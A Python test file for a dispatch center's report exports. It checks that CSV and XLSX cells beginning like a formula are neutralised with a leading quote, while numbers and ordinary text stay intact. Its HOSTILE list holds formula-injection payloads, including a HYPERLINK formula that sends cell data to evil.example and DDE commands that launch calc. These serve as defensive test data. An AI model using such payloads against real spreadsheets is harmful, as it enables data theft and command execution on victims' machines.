"""Report exports never hand a spreadsheet a formula (issue 15, Low: CSV/XLSX injection).

Text that reaches a cell (a unit or category name, an address, whatever a citizen or an
import wrote) and starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
neutralised by the OWASP rule: a leading ``'``, so a spreadsheet shows it as text. Numbers
stay numbers. The files are opened and read back as a spreadsheet program would.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from dispatch_center.reporting.render import render_csv, render_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _report(names: list[str]) -> dict[str, Any]:
    """A report's data with ``names`` wherever text reaches a cell, and a negative number."""
    return {
        "volume": {"received": 12, "vs_previous": {"pct": -12.5}, "vs_last_year": {"pct": 3.0}},
        "rates": {"响应率": 0.9},
        "trend": [{"bucket": "2026-11-27", "received": 12}],
        "channels": [{"label": n, "received": 1, "share": 0.1} for n in names],
        "categories": [{"name": n, "code": n, "received": 1, "previous": -1} for n in names],
        "counties": [
            {
                "name": n,
                "code": "511102",
                "received": 1,
                "response_rate": 1.0,
                "resolution_rate": 1.0,
                "on_time_rate": 1.0,
                "satisfaction_rate": 1.0,
                "return_rate": 0.0,
                "reopen_rate": 0.0,
            }
            for n in names
        ],
        "hotspots": [{"lon": 103.76, "lat": 29.55, "count": 3}],
        "overdue": {
            "orders": [
                {
                    "number": "LS1",
                    "category": n,
                    "unit": n,
                    "county": n,
                    "reply_by": "2026-11-27",
                    "hours_overdue": -1.5,
                }
                for n in names
            ]
        },
        "repeated": {"links": []},
        "hard_areas": [{"name": n, "overdue": 1, "returned": 0, "reopened": 0} for n in names],
    }


def _starts_dangerously(v: object) -> bool:
    """Text a spreadsheet would read as a formula (a plain number like -12.5 is a number)."""
    return isinstance(v, str) and v[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(v)


def _number(v: str) -> bool:
    try:
        float(v)
    except ValueError:
        return False
    return True


def test_csv_cells_starting_like_a_formula_are_neutralised() -> None:
    raw = render_csv(_report(HOSTILE)).decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(raw, newline="")) for c in row]
    assert not [c for c in cells if _starts_dangerously(c)]
    for text in HOSTILE:
        assert "'" + text in cells  # shown as the text it was, never run
    # numbers are numbers still, negative ones too
    assert "-12.5" in cells and "-1.5" in cells


def test_xlsx_cells_starting_like_a_formula_are_text() -> None:
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(render_xlsx(_report(HOSTILE))))
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                assert not _starts_dangerously(cell.value), (ws.title, cell.coordinate)
                values.append(cell.value)
    for text in HOSTILE:
        # (XML reads a carriage return back as a line feed)
        assert "'" + text.replace("\r", "\n") in values
    assert wb["概况"]["B3"].value == -12.5  # a number, not text


@pytest.mark.parametrize("text", ["市中区", "LS2026112700042", "", "5-7月", "'已有引号"])
def test_ordinary_text_is_unchanged(text: str) -> None:
    raw = render_csv(_report([text])).decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(raw, newline="")) for c in row]
    assert text in cells
